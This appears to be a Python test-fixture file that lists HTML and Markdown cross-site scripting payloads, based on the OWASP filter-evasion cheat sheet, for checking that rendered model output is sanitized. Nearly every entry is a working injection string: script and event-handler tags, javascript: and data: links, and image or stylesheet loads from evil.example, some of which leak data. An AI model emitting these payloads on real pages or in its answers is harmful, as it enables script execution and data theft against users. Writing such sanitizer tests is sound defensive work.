"""Texts that want to be more than text, as a model may be brought to write them.

Each that gets its way calls `pwned()`, asks evil.example, or leaves an element behind.
Kinds after https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from __future__ import annotations

# Shown to the letter.
HTML = [
    "<script>pwned()</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    '<script src="data:text/javascript,pwned()"></script>',
    "<img src=x onerror=pwned()>",
    '<img src="http://evil.example/leak?c=1">',
    '<img """><script>pwned()</script>">',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '<svg><a xlink:href="javascript:pwned()"><text x="20" y="20">click</text></a></svg>',
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="pwned()">',
    "<math><maction actiontype=statusline xlink:href=javascript:pwned()>click</maction></math>",
    '<iframe src="javascript:pwned()"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.pwned()&lt;/script&gt;"></iframe>'.replace(
        "&lt;", "<"
    ).replace("&gt;", ">"),
    '<object data="data:text/html,<script>pwned()</script>"></object>',
    '<embed src="http://evil.example/x.swf">',
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    '<form action="javascript:pwned()"><button>send</button></form>',
    '<button formaction="javascript:pwned()">send</button>',
    '<a href="javascript:pwned()">click</a>',
    '<a href="data:text/html,<script>pwned()</script>">click</a>',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<style>@import "http://evil.example/x.css";</style>',
    "<style>body{display:none}</style>",
    '<div style="background:url(http://evil.example/x)">styled</div>',
    '<p id="message">clobbered</p>',
    "<template><script>pwned()</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "<textarea></textarea><script>pwned()</script>",
    "<xmp><img src=x onerror=pwned()></xmp>",
    "<plaintext onmouseover=pwned()>",
    "<dialog open><h2>Your key?</h2><input></dialog>",
    "<x onclick=pwned() tabindex=0>click</x>",
]

# Markdown whose result must not run, load or look like a part of the page.
MARKDOWN = [
    "[click](javascript:pwned())",
    "[click](JaVaScRiPt:pwned())",
    "[click](java&#10;script:pwned())",
    "[click](&#x6A;avascript:pwned())",
    "[click](<javascript:pwned()>)",
    "[click](vbscript:pwned())",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    '[click](http://evil.example "onmouseover=pwned()")',
    '[click](http://evil.example/"onmouseover="pwned())',
    "<javascript:pwned()>",
    "![picture](http://evil.example/leak.png)",
    "![picture](javascript:pwned())",
    '![x](x"onerror="pwned())',
    "![picture](/v1/models)",
    "[reference]\n\n[reference]: javascript:pwned()",
    "![reference]\n\n[reference]: http://evil.example/leak.png",
    "```html\n<script>pwned()</script>\n```",
    '```"><img src=x onerror=pwned()>\ncode\n```',
    "```js onmouseover=pwned()\ncode\n```",
    "`<img src=x onerror=pwned()>`",
    "| a |\n|---|\n| <img src=x onerror=pwned()> |",
    "# <svg onload=pwned()>",
    "- [ ] <img src=x onerror=pwned()>",
    "> <iframe src=javascript:pwned()>",
    "&lt;img src=x onerror=pwned()&gt;",
    "\\<img src=x onerror=pwned()>",
    "a <!-- --!><img src=x onerror=pwned()> -->",
    "<![CDATA[<img src=x onerror=pwned()>]]>",
    "<?xml version='1.0'?><img src=x onerror=pwned()>",
    'https://evil.example/" onmouseover="pwned()',
]
